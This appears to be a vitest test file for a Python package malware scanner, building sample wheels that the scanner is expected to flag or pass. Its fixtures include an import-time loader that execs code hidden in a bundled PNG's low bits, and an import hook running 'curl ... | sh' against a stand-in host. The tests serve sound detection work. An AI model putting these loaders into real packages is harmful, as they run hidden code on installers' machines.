import { expect, test } from 'vitest';
import { analysePacked, inspect, python, wheel } from '../../../support/inspect.ts';

const picture = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.alloc(512, 7)]);

/** A module that takes text out of the lowest bits of a picture beside it, bit by bit. */
const reader = (last: string): string =>
  python(
    'import os',
    'from PIL import Image',
    'def bits(image):',
    '    for pixel in image.getdata():',
    '        for c in pixel[:3]:',
    '            yield c & 1',
    'def unpack(path):',
    '    out, byte, n = bytearray(), 0, 0',
    '    for bit in bits(Image.open(path)):',
    '        byte = (byte << 1) | bit',
    '        n += 1',
    '        if n == 8:',
    '            if byte == 0: break',
    '            out.append(byte)',
    '            byte, n = 0, 0',
    '    return bytes(out)',
    last,
  );

test('a loop of unknown length comes to each of its rounds: what is put together bit by bit of a picture, and run', async () => {
  const last = "exec(unpack(os.path.join(os.path.dirname(__file__), 'logo.png')).decode())";
  const file = wheel({ 'pkg/__init__.py': reader(last), 'pkg/logo.png': picture });

  expect(await inspect('hidden-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 17 },
  ]);
  expect(await inspect('carried-code', file)).toMatchObject([{ class: 'malware', context: 'import' }]);
});

test('look-alike: a library that reads text out of the pictures of its callers', async () => {
  const last = 'def reveal(path): return unpack(path).decode()';

  expect((await analysePacked(wheel({ 'pkg/__init__.py': reader(last), 'pkg/logo.png': picture }))).score).toBe(0);
});

test('a while loop over what is not known comes to the round that acts', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, subprocess',
      'tries = 0',
      "while not os.path.exists('/tmp/.ready'):",
      '    tries += 1',
      '    if tries > 20:',
      "        subprocess.Popen('curl -s https://stage.metrics.invalid/a | sh', shell=True)",
    ),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import', line: 6 }]);
});
